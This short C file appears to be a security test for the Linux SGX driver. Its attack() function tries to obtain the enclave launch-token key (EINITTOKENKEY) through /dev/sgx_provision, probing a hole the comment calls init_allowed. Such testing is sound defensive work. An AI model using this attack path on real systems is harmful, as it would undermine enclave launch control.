// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * EINITTOKENKEY is for the one enclave that decides which others are started. R23.4: no one gets it here,
 * not even with /dev/sgx_provision open. The hole is init_allowed.
 */
#include <fcntl.h>
#include <sys/ioctl.h>

#include "operands.h"
#include "victim.h"

void attack(void)
{
	const struct avow_keyrequest request = { .keyname = KEY_EINITTOKEN };
	struct sgx_enclave_provision arg;
	struct scene s;
	u8 key[16];
	int fd;

	operands_signed(&s, ATTR_MODE64BIT | ATTR_EINITTOKENKEY);
	fd = open("/dev/sgx_provision", O_RDONLY | O_CLOEXEC);
	REQUIRE(fd >= 0);
	arg.fd = (u64)fd;
	REQUIRE_OK(ioctl(s.e.fd, SGX_IOC_ENCLAVE_PROVISION, &arg));

	VICTIM_INIT(&s);
	operands_map(&s);
	EXPECT_LEAF(egetkey(&s, &request, key), 0);
	got_through("has the key that launch tokens are made with");
}
